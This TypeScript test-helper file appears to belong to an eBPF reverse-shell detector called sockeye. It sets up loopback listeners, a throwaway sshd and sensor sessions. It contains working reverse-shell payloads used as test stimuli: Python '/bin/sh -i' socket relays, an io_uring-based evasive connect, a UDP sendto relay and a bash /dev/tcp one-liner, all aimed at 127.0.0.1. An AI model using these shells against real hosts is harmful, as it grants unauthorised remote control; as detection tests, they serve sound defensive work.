/**
 * Kernel tier plumbing: root check that fails loudly in CI, loopback listeners, a throwaway
 * sshd, and a sensor session that collects the events of the processes a test starts. Set-up
 * that two test files need lives here once, so a fix to it reaches every test.
 */
import { spawn, spawnSync } from "node:child_process";
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, readlinkSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import net from "node:net";
import tls from "node:tls";
import dgram from "node:dgram";
import { Engine, ProcHostView, ProcessTable, builtinRules, openSensorSync, type EngineOptions, type Finding, type Sensor, type SensorEvent, type SensorOptions } from "sockeye";

export const isRoot = process.getuid?.() === 0;
export const inCI = process.env.CI === "true";

/**
 * describe() for tests that need root. Outside CI a non-root run skips with a printed reason;
 * in CI (root by contract) a non-root run fails instead of proving nothing.
 */
export function kernelTier(): { run: boolean } {
  if (isRoot) return { run: true };
  if (inCI) throw new Error("kernel tier: CI=true but not running as root: these tests must run, not skip");
  console.warn("kernel tier skipped: not root (run 'sudo npm run test:kernel')");
  return { run: false };
}

export const PYTHON = "/usr/bin/python3";

/**
 * Python source defining `pipe_relay(s)`: `/bin/sh -i` behind two pipes, relayed to and from the
 * connected socket `s` (the Popen relay shell, and an interactive-shell agent's very structure).
 * Relay tests connect `s` their own way (plain, io_uring, before the sensor) and then call it.
 * No single quote inside, so a test can pass it to `python3 -c '…'` in a shell command.
 */
export const PYTHON_PIPE_RELAY = `
import os, subprocess, threading
def pipe_relay(s):
    c = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    def up():
        while True:
            d = os.read(c.stdout.fileno(), 4096)
            if not d: break
            s.sendall(d)
    threading.Thread(target=up, daemon=True).start()
    while True:
        d = s.recv(4096)
        if not d: break
        c.stdin.write(d); c.stdin.flush()
    c.wait()
`;

/**
 * connect(2) through io_uring (IORING_OP_CONNECT), raw syscalls from python's ctypes: no
 * liburing needed. The relay then runs sh -i behind two pipes, as a Popen relay does.
 * Arguments: host, port.
 */
export const IO_URING_RELAY = `${PYTHON_PIPE_RELAY}
import ctypes, mmap, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
u32 = ctypes.c_uint32
class SqOff(ctypes.Structure):
    _fields_ = [(n, u32) for n in "head tail ring_mask ring_entries flags dropped array resv1".split()] + [("user_addr", ctypes.c_uint64)]
class CqOff(ctypes.Structure):
    _fields_ = [(n, u32) for n in "head tail ring_mask ring_entries overflow cqes flags resv1".split()] + [("user_addr", ctypes.c_uint64)]
class Params(ctypes.Structure):
    _fields_ = [(n, u32) for n in "sq_entries cq_entries flags sq_thread_cpu sq_thread_idle features wq_fd".split()] + [("resv", u32 * 3), ("sq_off", SqOff), ("cq_off", CqOff)]
IORING_OP_CONNECT, IORING_ENTER_GETEVENTS, IORING_OFF_SQES = 16, 1, 0x10000000
def uring_connect(sock, host, port):
    p = Params()
    fd = libc.syscall(425, 4, ctypes.byref(p))  # io_uring_setup
    if fd < 0: raise OSError(ctypes.get_errno(), "io_uring_setup")
    size = max(p.sq_off.array + p.sq_entries * 4, p.cq_off.cqes + p.cq_entries * 16)
    ring = mmap.mmap(fd, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
    sqes = mmap.mmap(fd, p.sq_entries * 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=IORING_OFF_SQES)
    addr = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8))
    sqes[0:64] = struct.pack("=BBHiQQIIQ24x", IORING_OP_CONNECT, 0, 0, sock.fileno(), 16, ctypes.addressof(addr), 0, 0, 1)
    tail, mask = struct.unpack_from("=I", ring, p.sq_off.tail)[0], struct.unpack_from("=I", ring, p.sq_off.ring_mask)[0]
    struct.pack_into("=I", ring, p.sq_off.array + (tail & mask) * 4, 0)
    struct.pack_into("=I", ring, p.sq_off.tail, tail + 1)
    if libc.syscall(426, fd, 1, 1, IORING_ENTER_GETEVENTS, None, 0) < 0: raise OSError(ctypes.get_errno(), "io_uring_enter")
    head, cmask = struct.unpack_from("=I", ring, p.cq_off.head)[0], struct.unpack_from("=I", ring, p.cq_off.ring_mask)[0]
    res = struct.unpack_from("=i", ring, p.cq_off.cqes + (head & cmask) * 16 + 8)[0]
    if res < 0: raise OSError(-res, "IORING_OP_CONNECT")
s = socket.socket()
uring_connect(s, sys.argv[1], int(sys.argv[2]))
pipe_relay(s)
`;

/** A command whose answer only a shell computes (no echo of the input can contain it), and that answer. */
const MARKER_COMMAND: [string, string] = ["echo RELAY_$((6*7))", "RELAY_42"];
/** How long a commanding listener keeps an answered shell alive before `exit`: the rules read /proc of live processes. */

/**
 * A UDP relay that never connects (issue 26): `/bin/sh -i` behind two pipes, its output sent
 * with sendto to argv H:P from an unconnected socket bound to 127.0.0.1:argv[3], and what comes
 * back from H:P (recvfrom) written to the shell. /proc/net/udp shows this socket's remote as
 * 0.0.0.0:0: only its sends name the peer. No single quote inside.
 */
export const PYTHON_UDP_SENDTO_RELAY = `
import os, socket, subprocess, sys, threading
peer = (sys.argv[1], int(sys.argv[2]))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", int(sys.argv[3])))
c = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
def up():
    while True:
        d = os.read(c.stdout.fileno(), 4096)
        if not d: break
        s.sendto(d, peer)
threading.Thread(target=up, daemon=True).start()
while c.poll() is None:
    d, a = s.recvfrom(4096)
    if a != peer: continue
    c.stdin.write(d); c.stdin.flush()
    if d.startswith(b"exit"): break
c.wait()
`;

/**
 * Where this host mounts the cgroup v2 hierarchy at its root, from /proc/self/mountinfo (as the
 * loader finds it), or undefined: the udp_send capability (cgroup/sendmsg4|6) needs it.
 */
export function cgroup2Root(): string | undefined {
  for (const line of readFileSync("/proc/self/mountinfo", "utf8").split("\n")) {
    const f = line.split(" ");
    const dash = f.indexOf("-");
    if (dash > 4 && f[dash + 1] === "cgroup2" && f[3] === "/") return f[4];
  }
  return undefined;
}

/**
 * The udp_send capability is live on its cgroup programs. A host without a cgroup v2 mount
 * cannot have it: there the check fails under CI (the tests must run, never skip) and answers
 * false elsewhere, after asserting the sensor said why.
 */
export function udpSendLive(sensor: Sensor): boolean {
  if (cgroup2Root() === undefined) {
    const why = sensor.programs.find((p) => p.capability === "udp_send" && p.program === "cgroup/sendmsg{4,6}")?.reason ?? "";
    if (inCI) throw new Error(`udp_send: this CI host mounts no cgroup v2 hierarchy, so unconnected UDP relays cannot be tested (${why})`);
    if (!/cgroup v2/.test(why)) throw new Error(`udp_send: no cgroup v2 mount here, and the sensor did not say so: ${why}`);
    console.warn(`udp_send: no cgroup v2 mount on this host, unconnected UDP cases not run (${why})`);
    return false;
  }
  const live = sensor.liveProgram("udp_send");
  if (live !== "cgroup/sendmsg{4,6}") throw new Error(`udp_send: cgroup v2 is mounted at ${cgroup2Root()} but the live program is ${live}`);
  return true;
}

const SHELL_LINGER_MS = 1500;

export interface TcpListener {
  port: number;
  close(): Promise<void>;
}

export interface FarewellListener extends TcpListener {
  /** From now on new connections are kept open, not sent the farewell. */
  hold(): void;
  /** Sends the farewell to every connection, held ones included, and to new ones again. */
  release(): void;
}

/**
 * A loopback TCP listener. With `farewell`, each connection gets it and is half-closed at
 * once ("exit\n" makes a reverse shell on the other end finish by itself). `hold()` keeps the
 * next shells alive until `release()`: a test that names a process from /proc (its container)
 * must look while it lives, on any machine's timing.
 */
export async function tcpListener(host = "127.0.0.1", farewell?: string): Promise<FarewellListener> {
  const sockets = new Set<net.Socket>();
  let held = false;
  const server = net.createServer((s) => {
    sockets.add(s);
    s.on("error", () => {});
    if (farewell !== undefined && !held) s.end(farewell);
  });
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  return {
    port: (server.address() as net.AddressInfo).port,
    hold: () => { held = true; },
    release: () => { held = false; if (farewell !== undefined) for (const s of sockets) s.end(farewell); },
    close: () => new Promise((resolve) => { for (const s of sockets) s.destroy(); server.close(() => resolve()); }),
  };
}

/** A loopback listener that only collects what arrives (the output half of a telnet pair, a sink for a transfer). */
export async function collectingListener(host = "127.0.0.1"): Promise<{ port: number; received: () => string; bytes: () => number; close(): Promise<void> }> {
  const sockets = new Set<net.Socket>();
  const chunks: Buffer[] = [];
  const server = net.createServer((s) => {
    sockets.add(s);
    s.on("error", () => {});
    s.on("data", (d: Buffer) => chunks.push(d));
  });
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  return {
    port: (server.address() as net.AddressInfo).port,
    received: () => Buffer.concat(chunks).toString(),
    bytes: () => chunks.reduce((n, c) => n + c.length, 0),
    close: () => new Promise((resolve) => { for (const s of sockets) s.destroy(); server.close(() => resolve()); }),
  };
}

export async function udpListener(host = "127.0.0.1"): Promise<TcpListener> {
  const sock = dgram.createSocket(host.includes(":") ? "udp6" : "udp4");
  await new Promise<void>((resolve) => sock.bind(0, host, resolve));
  return { port: sock.address().port, close: () => new Promise((resolve) => sock.close(() => resolve())) };
}

/**
 * commandingListener's UDP twin for a client bound to `clientPort`: it sends the command there
 * until the answer comes back from that port (the client may not be up yet: early datagrams are
 * lost), then `exit`. UDP has no accept: the client's port is fixed by the test so the listener
 * knows where to send first.
 */
export async function udpCommandingListener(clientPort: number): Promise<{ port: number; answered: Promise<boolean>; close(): Promise<void> }> {
  const [command, answer] = MARKER_COMMAND;
  const sock = dgram.createSocket("udp4");
  sock.on("error", () => {});
  await new Promise<void>((resolve) => sock.bind(0, "127.0.0.1", resolve));
  let got = "";
  let resolveAnswered!: (ok: boolean) => void;
  const answered = new Promise<boolean>((r) => (resolveAnswered = r));
  const timer = setInterval(() => sock.send(`${command}\n`, clientPort, "127.0.0.1"), 300);
  sock.on("message", (msg, from) => {
    if (from.port !== clientPort) return;
    got += msg.toString();
    if (got.includes(answer)) {
      clearInterval(timer);
      resolveAnswered(true);
      setTimeout(() => sock.send("exit\n", clientPort, "127.0.0.1"), SHELL_LINGER_MS);
    }
  });
  setTimeout(() => { clearInterval(timer); resolveAnswered(false); }, 20_000).unref();
  return { port: sock.address().port, answered, close: () => new Promise((resolve) => { clearInterval(timer); sock.close(() => resolve()); }) };
}

/** Runs a command to completion; returns its pid and exit status. */
export async function run(cmd: string, args: string[], input?: string): Promise<{ pid: number; status: number | null; stdout: string; stderr: string }> {
  const child = spawn(cmd, args, { stdio: ["pipe", "pipe", "pipe"] });
  let stdout = "", stderr = "";
  child.stdout.on("data", (d) => (stdout += d));
  child.stderr.on("data", (d) => (stderr += d));
  // A child that exits at once (a refused start) closes its stdin before we write: EPIPE.
  child.stdin.on("error", () => {});
  child.stdin.end(input ?? "");
  // 'exit', not 'close': a shell's grandchildren may hold the pipes open after it is gone.
  const status = await new Promise<number | null>((resolve) => child.on("exit", (code, signal) => resolve(code ?? (signal ? 128 : null))));
  child.stdout.destroy();
  child.stderr.destroy();
  return { pid: child.pid!, status, stdout, stderr };
}

export function python(code: string) {
  return run(PYTHON, ["-c", code]);
}

type RunResult = Awaited<ReturnType<typeof run>>;

/**
 * A /dev/tcp reverse shell on the host, then one in a container (`startInContainer` runs the
 * given shell command there), against one loopback listener, as the container tests need them:
 * the host's shell is told to exit at once; the container's is held until `findingsFor(port)`
 * has two findings (up to 30 s), so the test names its container from a live process on any
 * machine's timing (a shell gone before the look is named by its cgroup id alone:
 * test/unit/host/cgroups.test.ts).
 */
export async function hostAndContainerShells(
  startInContainer: (shell: string) => Promise<RunResult>,
  findingsFor: (port: number) => unknown[],
): Promise<{ port: number; onHost: RunResult; inContainer: RunResult }> {
  const listener = await tcpListener("127.0.0.1", "exit\n");
  try {
    const shell = `bash -i >& /dev/tcp/127.0.0.1/${listener.port} 0>&1`;
    // exec: the shell keeps the pid spawned here, which its finding must name.
    const onHost = await run("bash", ["-c", `exec ${shell}`]);
    listener.hold();
    const inContainer = startInContainer(shell);
    const until = Date.now() + 30_000;
    while (findingsFor(listener.port).length < 2 && Date.now() < until) await new Promise((r) => setTimeout(r, 100));
    listener.release();
    return { port: listener.port, onHost, inContainer: await inContainer };
  } finally {
    await listener.close();
  }
}

export class Session {
  readonly events: SensorEvent[] = [];
  private constructor(readonly sensor: Sensor) {
    sensor.subscribe((batch) => this.events.push(...batch));
  }
  static open(options: SensorOptions = {}): Promise<Session> {
    return Promise.resolve(new Session(openSensorSync(options)));
  }
  /**
   * Lets the reader thread deliver what the kernel has already written. Not a bare sleep (a
   * busy or slower host delivers later): a marker process started now must have been seen
   * exiting, twice over, since one read of the two rings can take the marker's exit from one
   * ring after passing the other ring a moment too early. `ms` is a floor, not the bound.
   */
  async settle(ms = 300): Promise<void> {
    const floor = new Promise((r) => setTimeout(r, ms));
    for (let round = 0; round < 2; round++) {
      const marker = spawnSync("/bin/true");
      if (marker.pid === undefined || marker.status !== 0) throw new Error(`settle: /bin/true did not run: ${marker.error?.message}`);
      const deadline = Date.now() + 10_000;
      while (!this.events.some((e) => e.kind === "exit" && e.task.pid === marker.pid)) {
        if (Date.now() > deadline) throw new Error(`settle: the sensor did not report the exit of marker pid ${marker.pid} within 10 s`);
        await new Promise((r) => setTimeout(r, 20));
      }
    }
    await floor;
  }
  of(pid: number): SensorEvent[] {
    return this.events.filter((e) => e.task.pid === pid);
  }
  /** Detaches every program now; the tests read what they need before, so no wait for the last batches. */
  close(): void {
    void this.sensor.close();
  }
}

function bpftoolPrograms(): { id: number; name?: string }[] {
  const out = spawnSync("bpftool", ["prog", "list", "--json"], { encoding: "utf8" });
  if (out.status !== 0) throw new Error(`bpftool prog list failed: ${out.stderr}`);
  return JSON.parse(out.stdout) as { id: number; name?: string }[];
}

export function bpftoolProgramNames(): string[] {
  return bpftoolPrograms().map((p) => p.name ?? "");
}

function bpftoolProgramIds(): number[] {
  return bpftoolPrograms().map((p) => p.id);
}

/**
 * Which of `ids` the kernel still has after up to 4 s: it frees detached programs after an
 * RCU grace period, so give it a moment before calling one left behind.
 */
export async function stillLoaded(ids: readonly number[]): Promise<number[]> {
  let left: number[] = [...ids];
  for (let i = 0; i < 40 && left.length; i++) {
    if (i > 0) await new Promise((r) => setTimeout(r, 100));
    const loaded = new Set(bpftoolProgramIds());
    left = ids.filter((id) => loaded.has(id));
  }
  return left;
}

/**
 * Ids of the BPF programs a process holds open (its bpf-prog fds' fdinfo). Other sensors may
 * be loaded in the same kernel at the same time (other test runs, a daemon): a check that a
 * process left nothing behind must look at that process's own programs, not at every
 * program named handle_*.
 */
export function programIdsHeldBy(pid: number): number[] {
  const ids: number[] = [];
  for (const fd of readdirSync(`/proc/${pid}/fd`)) {
    let target = "";
    try {
      target = readlinkSync(`/proc/${pid}/fd/${fd}`);
    } catch {
      continue; // closed meanwhile
    }
    if (target !== "anon_inode:bpf-prog") continue;
    const m = /^prog_id:\s*(\d+)$/m.exec(readFileSync(`/proc/${pid}/fdinfo/${fd}`, "utf8"));
    if (m) ids.push(Number(m[1]));
  }
  return ids;
}

/** A loopback port nobody listens on right now. */
export async function freePort(): Promise<number> {
  const server = net.createServer();
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const port = (server.address() as net.AddressInfo).port;
  await new Promise((resolve) => server.close(resolve));
  return port;
}

/** Resolves once something accepts connections on 127.0.0.1:`port` (a server the test started). */
export async function listening(port: number): Promise<void> {
  for (let i = 0; i < 100; i++) {
    const up = await new Promise<boolean>((resolve) => {
      const c = net.connect(port, "127.0.0.1", () => { c.destroy(); resolve(true); });
      c.on("error", () => resolve(false));
    });
    if (up) return;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error(`nothing listens on 127.0.0.1:${port}`);
}

/**
 * One request/response exchange with a line service on 127.0.0.1: sends `line` and returns the
 * first line that comes back. The connection is not half-closed first: ncat closes on a
 * client's EOF before its program has answered.
 */
export function exchange(port: number, line: string): Promise<string> {
  return new Promise((resolve, reject) => {
    let got = "";
    const c = net.connect(port, "127.0.0.1", () => c.write(line));
    c.setTimeout(5000, () => c.destroy(new Error(`no answer from port ${port}`)));
    c.on("data", (d: Buffer) => {
      got += d.toString();
      if (got.includes("\n")) {
        c.destroy();
        resolve(got);
      }
    });
    c.on("error", reject);
    c.on("close", () => resolve(got));
  });
}

export interface Sshd {
  port: number;
  /** Its own directory (keys, config, pid file), removed by stop(). */
  dir: string;
  clientKey: string;
  /** ssh options that log in with the throwaway key and read no user or host configuration. */
  clientOptions: string[];
  stop(): Promise<void>;
}

/**
 * Debian's sshd on 127.0.0.1 with throwaway keys and its own config, so the benign corpus
 * (ssh, scp, sftp, git over ssh, jump hosts) runs against a real sshd and nothing of the host's
 * is used or changed but /run/sshd, its privilege-separation directory, which a host without a
 * running sshd lacks.
 */
export async function startSshd(): Promise<Sshd> {
  const dir = mkdtempSync(join(tmpdir(), "sockeye-sshd-"));
  for (const key of ["host_key", "client_key"]) {
    const gen = spawnSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", join(dir, key)], { encoding: "utf8" });
    if (gen.status !== 0) throw new Error(`ssh-keygen: ${gen.error?.message ?? gen.stderr}`);
  }
  copyFileSync(join(dir, "client_key.pub"), join(dir, "authorized_keys"));
  const port = await freePort();
  writeFileSync(join(dir, "sshd_config"), [
    `Port ${port}`, "ListenAddress 127.0.0.1", `HostKey ${join(dir, "host_key")}`, `PidFile ${join(dir, "sshd.pid")}`,
    `AuthorizedKeysFile ${join(dir, "authorized_keys")}`, "PermitRootLogin yes", "StrictModes no", "UsePAM no",
    "PasswordAuthentication no", "KbdInteractiveAuthentication no",
    // scp and sftp need the subsystem; ssh -J needs forwarding (the default, said here so a distribution's change cannot turn it off).
    "Subsystem sftp internal-sftp", "AllowTcpForwarding yes", "LogLevel ERROR", "",
  ].join("\n"));
  if (!existsSync("/run/sshd")) mkdirSync("/run/sshd", { mode: 0o755 });
  const child = spawn("/usr/sbin/sshd", ["-D", "-e", "-f", join(dir, "sshd_config")], { stdio: ["ignore", "ignore", "inherit"] });
  const exited = new Promise<void>((resolve) => child.once("close", () => resolve()));
  const failed = new Promise<never>((_, reject) => {
    child.once("error", (e) => reject(new Error(`sshd did not start: ${e.message}`)));
    child.once("exit", (code, signal) => reject(new Error(`sshd exited (${signal ?? code}) before listening on 127.0.0.1:${port}`)));
  });
  failed.catch(() => {}); // once listening, a later exit is stop()'s business
  await Promise.race([listening(port), failed]);
  const clientKey = join(dir, "client_key");
  return {
    port,
    dir,
    clientKey,
    clientOptions: ["-F", "/dev/null", "-i", clientKey, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-o", "LogLevel=ERROR"],
    stop: async () => {
      if (child.exitCode === null && child.signalCode === null) child.kill("SIGTERM");
      await exited;
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

/**
 * An engine of `rules` (the built-in ones by default) fed every event of `session`, with a
 * process table of its own seeded from /proc (the processes that predate the sensor), its
 * findings pushed into `findings` as they come. Several per session compare rule sets on one run.
 */
export function attachEngine<F extends Finding>(
  session: Session,
  findings: F[],
  rules: EngineOptions["rules"] = builtinRules(),
  options: Pick<EngineOptions, "fold"> = {},
): Engine {
  const processes = new ProcessTable({ host: new ProcHostView() });
  processes.seedFromProc();
  const engine = new Engine({ rules, processes, ...options });
  session.sensor.subscribe((events) => {
    for (const e of events) for (const f of engine.handle(e)) findings.push(f as F);
  });
  return engine;
}

/**
 * Two engines fed the same events of one session: the built-in rules as they come (TRC-101's
 * precise profile) and with TRC-101's tracee profile, each with its own process table, so a
 * test can compare the profiles' verdicts on one real run.
 */
export class TwoProfiles<F extends Finding = Finding> {
  readonly precise: F[] = [];
  readonly tracee: F[] = [];
  readonly preciseEngine: Engine;
  readonly traceeEngine: Engine;

  constructor(session: Session) {
    this.preciseEngine = attachEngine(session, this.precise);
    this.traceeEngine = attachEngine(session, this.tracee, builtinRules({ trc101: { profile: "tracee" } }));
  }

  /** TRC-101's suppressions in the precise profile, by reason. */
  suppressed(): Record<string, number> {
    return this.preciseEngine.stats().suppressedByRule["TRC-101"] ?? {};
  }
}

/**
 * A listener that, on its first connection, sends `echo` of a marker the shell must compute,
 * waits for the answer (then the next command's, when given several), keeps the shell alive a
 * moment (the rules read /proc of live processes), then sends `exit`. With `tls`, the same over
 * TLS (for openssl s_client).
 */
export async function commandingListener(
  host: string,
  opts: { commands?: [string, string][]; tls?: { key: string; cert: string } } = {},
): Promise<{ port: number; answered: Promise<boolean>; close(): Promise<void> }> {
  const commands = opts.commands ?? [MARKER_COMMAND];
  const sockets = new Set<net.Socket>();
  let resolveAnswered!: (ok: boolean) => void;
  const answered = new Promise<boolean>((r) => (resolveAnswered = r));
  const onConnection = (s: net.Socket) => {
    sockets.add(s);
    s.on("error", () => {});
    let got = "";
    let next = 0;
    s.write(`${commands[0]![0]}\n`);
    s.on("data", (d: Buffer) => {
      got += d.toString();
      if (next < commands.length && got.includes(commands[next]![1])) {
        next++;
        if (next < commands.length) s.write(`${commands[next]![0]}\n`);
        else {
          resolveAnswered(true);
          setTimeout(() => s.end("exit\n"), SHELL_LINGER_MS);
        }
      }
    });
    s.on("close", () => resolveAnswered(next === commands.length));
  };
  const server = opts.tls !== undefined ? tls.createServer(opts.tls, onConnection) : net.createServer(onConnection);
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  return {
    port: (server.address() as net.AddressInfo).port,
    answered,
    close: () => new Promise((resolve) => { for (const s of sockets) s.destroy(); server.close(() => resolve()); }),
  };
}

/**
 * `sockeye run` from this tree (dist/), for the tests that watch the daemon as a whole; the
 * benches start it the same way (bench/daemon.mjs).
 */
export { CLI, peakRssMb, startDaemon, stoppedLine, type Daemon, type StoppedLine } from "../../bench/daemon.mjs";
